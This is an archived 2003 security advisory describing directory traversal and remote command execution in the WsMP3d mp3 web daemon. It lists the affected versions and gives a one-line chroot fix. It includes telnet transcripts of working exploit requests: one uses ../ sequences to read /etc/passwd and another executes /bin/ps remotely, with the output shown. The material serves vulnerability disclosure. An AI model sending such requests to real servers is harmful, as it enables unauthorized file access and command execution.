Visit our newest sister site!
Hundreds of free aircraft flight manuals
Civilian • Historical • Military • Declassified • FREE!

TUCoPS :: Web :: Servers :: bt229.txt

WsMP3d Directory Traversal

    INetCop Security Advisory #2003-0x82-017.a

* Title: WsMP3d Directory Traversing Vulnerability

0x01. Description

WsMp3d is daemon that can enjoy mp3.This daemon can approach in web, directory traversing bug exists.
Also, can execute command in remote.

0x02. Vulnerable Packages

Vendor site:

WsMp3-0.0.10.tar.gz version.
WsMp3-0.0.9.tar.gz version.
WsMp3-0.0.8.tar.gz version.
web_server-0.0.7.tar.gz version.
web_server-0.0.6.tar.gz version.
web_server-0.0.5.tar.gz version.web_server-0.0.4.tar.gz version.
web_server-0.0.3.tar.gz version.
web_server-0.0.2.tar.gz version.
web_server-0.0.1.tar.gz version.

0x03. Exploit

#1) Directory traversing exploit:As following, see file in directory.

In this way, use directory that know.

bash$ telnet 8000
Connected to
Escape character is '^]'.
GET /dir/../../../../../../etc/passwd HTTP/1.0

... passwd file here ...

Ok, it's possible to read `/etc/passwd' file !
If it's executed by root ?? hehehe ;-)

#2) Remote execute command exploit:

bash$ telnet 8000
Connected to
Escape character is '^]'.
POST /dir/../../../../../../bin/ps HTTP/1.0
HTTP/1.1 200 OK
Connection: closeContent-Type: text/html
Date: Sat May 03 01:25:28 2003
Last-Modified: Sat May 03 01:25:28 2003
Content-Length: 201

  PID TTY          TIME CMD
29529 pts/2    00:00:00 login
29559 pts/2    00:00:00 su
29560 pts/2    00:00:00 bash
29681 pts/2    00:00:10 WsMp3
29730 pts/2    00:00:00 WsMp3
29731 pts/2    00:00:00 ps
Connection closed by foreign host.

0x04. Patch

It can solve as chroot() function. :-)

P.S: Sorry, for my poor english.

By "dong-houn yoU" (Xpl017Elz), in INetCop(c) Security.

MSN & E-mail: szoahc(at)hotmail(dot)com,

INetCop Security Home: (Korean hackinggame)
             My World: &

GPG public key:

Get your free emailfrom

Powered by Outblaze

TUCoPS is optimized to look best inFirefox® on a widescreen monitor (1440x900 or better).
Site design & layoutcopyright © 1986-2015 AOH